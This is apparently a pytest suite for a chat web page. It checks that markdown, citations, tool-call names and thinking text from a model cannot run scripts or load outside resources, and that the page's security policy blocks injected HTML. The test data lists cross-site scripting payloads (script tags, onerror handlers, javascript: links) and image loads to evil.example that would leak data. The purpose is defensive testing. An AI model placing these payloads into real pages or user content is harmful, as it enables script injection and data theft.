"""What a model, a tool or a search writes runs no script in the page, and loads nothing."""

from __future__ import annotations

from typing import Any

import pytest
from support.served_chat import ServedChat, ask, ended, said

pytestmark = pytest.mark.slow

MARKDOWN = """
<script>hacked = 1</script> <img src=x onerror="hacked = 2"> <svg onload="hacked = 3"></svg>

<iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>

<style>@import "http://evil.example/style.css";</style>

![a picture](http://evil.example/pixel.png?secret) ![data](data:image/svg+xml,<svg/onload=alert(1)>) ![r][r]

[r]: https://evil.example/ref.png

[one](javascript:hacked=5) [two](JaVaScRiPt:hacked=6) [three](data:text/html,<script>hacked=7</script>)
[four](vbscript:hacked) [five](//evil.example) [six](/api/chat/x/stop) <javascript:hacked=8> [web](https://example.com "<b>")

`<img src=x onerror="hacked = 9">`

```html
<script>hacked = 10</script>
```
"""
TEXT = '<img src=x onerror="hacked = 11">'
JAVASCRIPT = "javascript:hacked = 12"


def hostile() -> list[Any]:
    message = said(*(MARKDOWN[at : at + 7] for at in range(0, len(MARKDOWN), 7)))
    for url in (JAVASCRIPT, "https://example.com/a"):
        citation = {"type": "web_search_result_location", "url": url, "title": TEXT}
        delta = {
            "type": "citations_delta",
            "citation": {**citation, "cited_text": TEXT, "encrypted_index": "x"},
        }
        message.insert(3, {"type": "content_block_delta", "index": 0, "delta": delta})
    call = {"type": "tool_use", "id": "t1", "name": TEXT, "input": {"x": TEXT}}
    thought = {"type": "thinking", "thinking": TEXT, "signature": "x"}
    for index, block in enumerate((call, thought), 1):
        message[-2:-2] = [
            {"type": "content_block_start", "index": index, "content_block": block},
            {"type": "content_block_stop", "index": index},
        ]
    return message


@pytest.mark.parametrize("path", ["/", "/plain"])
def test_hostile_text_runs_nothing_and_loads_nothing(
    served: ServedChat, open_tab: Any, chat: str, path: str
) -> None:
    page = open_tab(f"{served.address}{path}#{chat}")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    served.script(hostile(), said("That is all."))  # behind the call of a tool that isn't there
    ask(page, TEXT)
    served.tell(None)
    ended(page)
    page.reload()
    ended(page)
    inside = page.locator("section")
    assert "hacked = 10" in inside.last.inner_text()
    assert "That is all." in inside.last.inner_text()
    assert inside.locator("script, img, svg, iframe, style, object, embed, [style], [onerror]").count() == 0
    links = {link.get_attribute("href") for link in page.locator("a").all()}
    assert links >= {"https://example.com/a"}
    assert [link for link in links if link is None or not link.startswith("http")] in ([], [None])
    for link in page.locator("a[href]").all():
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.evaluate("'hacked' in window") is False
    assert [url for url in asked if not url.startswith(served.address)] == []


@pytest.mark.parametrize("path", ["/", "/plain"])
def test_the_page_s_policy_is_a_second_lock(served: ServedChat, open_tab: Any, chat: str, path: str) -> None:
    """Were there a hole in the first, a script in the page's HTML wouldn't run, and no image would be asked for."""
    page = open_tab(f"{served.address}{path}#{chat}")
    failed: list[str] = []
    page.on("requestfailed", lambda request: failed.append(request.failure))
    refused = page.evaluate(
        """async () => {
          const refused = [];
          document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
          document.body.insertAdjacentHTML("beforeend", `<img src="http://evil.example/a.png"><img src=x onerror="hacked = 1">`);
          while (refused.length < 3) await new Promise((resolve) => setTimeout(resolve, 10));
          return refused.sort();
        }"""
    )
    assert refused == ["img-src", "img-src", "script-src-attr"]
    assert page.evaluate("'hacked' in window") is False
    assert failed == ["csp", "csp"]
